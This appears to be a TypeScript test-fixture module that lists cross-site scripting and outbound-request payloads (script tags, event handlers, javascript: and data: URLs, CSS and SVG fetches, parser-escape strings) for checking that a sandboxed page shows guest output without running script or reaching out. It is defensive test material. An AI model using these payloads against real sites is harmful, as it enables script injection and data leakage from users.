/**
 * Attempts of guests against a page that shows their output. `CANARY` is what a script would
 * call; `out` is an address that nothing may reach.
 *
 * @module
 */

const CANARY = "top.document.title='owned';top.owned=1;alert(1)";
const encoded = encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" onload="${CANARY}"/>`);

/** HTML that must run no script, reach nothing, and stay in its frame. */
export const htmlAttacks = (out: string): readonly string[] => [
  `<script>${CANARY}</script>`,
  `<script src="${out}.js"></script>`,
  `<script type="module">${CANARY}</script>`,
  `<img src="x:" onerror="${CANARY}">`,
  `<img src="${out}.png">`,
  `<img srcset="${out}.png 2x">`,
  `<picture><source srcset="${out}.png"><img src="data:,"></picture>`,
  `<svg onload="${CANARY}"><image href="${out}.svg"/></svg>`,
  `<svg><script>${CANARY}</script></svg>`,
  `<svg><use href="${out}.svg#a"/></svg>`,
  `<svg><animate onbegin="${CANARY}" attributeName="x" dur="1s"/></svg>`,
  `<iframe src="javascript:${CANARY}"></iframe>`,
  `<iframe src="${out}"></iframe>`,
  `<iframe srcdoc="<script>${CANARY}</script>"></iframe>`,
  `<iframe src="data:text/html,<script>${CANARY}</script>"></iframe>`,
  `<object data="${out}.html"></object>`,
  `<object data="data:text/html,<script>${CANARY}</script>"></object>`,
  `<embed src="${out}.swf">`,
  `<meta http-equiv="refresh" content="0;url=${out}">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="${out}.png">`,
  `<base href="${out}/"><img src="a.png">`,
  `<link rel="stylesheet" href="${out}.css">`,
  `<link rel="preload" as="image" href="${out}.png">`,
  `<link rel="prefetch" href="${out}.html">`,
  `<link rel="modulepreload" href="${out}.js">`,
  `<link rel="icon" href="${out}.ico">`,
  `<style>@import url(${out}.css);</style>`,
  `<style>body{background:url(${out}.png)}</style>`,
  `<style>@font-face{font-family:a;src:url(${out}.woff)}p{font-family:a}</style><p>a</p>`,
  `<p style="background-image:image-set(url(${out}.png) 1x)">a</p>`,
  `<video src="${out}.mp4" poster="${out}.png" autoplay></video>`,
  `<audio src="${out}.mp3" autoplay onerror="${CANARY}"></audio>`,
  `<input autofocus onfocus="${CANARY}">`,
  `<details open ontoggle="${CANARY}"><summary>a</summary></details>`,
  `<body onload="${CANARY}" onpageshow="${CANARY}">`,
  `<form id="f" action="${out}"><button autofocus>a</button></form>`,
  `<style>@keyframes k{}*{animation:k 1s}</style><p onanimationstart="${CANARY}">a</p>`,
  `</iframe></body></html><script>${CANARY}</script>`,
  `--></style></title></textarea><script>${CANARY}</script>`,
  `<template shadowrootmode="open"><script>${CANARY}</script></template>`,
  `<math><mtext><table><mglyph><style><img src=x: onerror="${CANARY}"></style></mglyph></table></mtext></math>`,
];

/** Links that must lead nowhere when they are clicked. */
export const linkAttacks = (out: string): readonly string[] => [
  `javascript:${CANARY}`,
  out,
  `data:text/html,<script>${CANARY}</script>`,
];

/** SVG and images that must stay pictures. */
export const imageAttacks = (
  out: string,
): readonly (readonly [type: string, value: string])[] => [
  [
    "image/svg+xml",
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${CANARY}"><script>${CANARY}</script></svg>`,
  ],
  ["image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"><image href="${out}.png"/></svg>`],
  [
    "image/svg+xml",
    `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="${out}"/></body></foreignObject></svg>`,
  ],
  ["image/svg+xml", `"><script>${CANARY}</script>`],
  ["image/svg+xml", "\ud800<svg/>"],
  ["image/png", `" onerror="${CANARY}`],
  ["image/png", `,<script>${CANARY}</script>`],
  ["image/jpeg", `x"><img src=x onerror=${CANARY}>`],
  ["image/evil", `"><script>${CANARY}</script>`],
  ["text/plain", encoded],
];

/** Texts that must stay texts, wherever they are shown. */
export const TEXT_ATTACKS: readonly string[] = [
  `<script>${CANARY}</script>`,
  `<img src=x: onerror=${CANARY}>`,
  `"><svg onload=${CANARY}>`,
  `</pre></div><iframe src=javascript:${CANARY}>`,
  `javascript:${CANARY}`,
  "{{constructor.constructor('alert(1)')()}}",
];
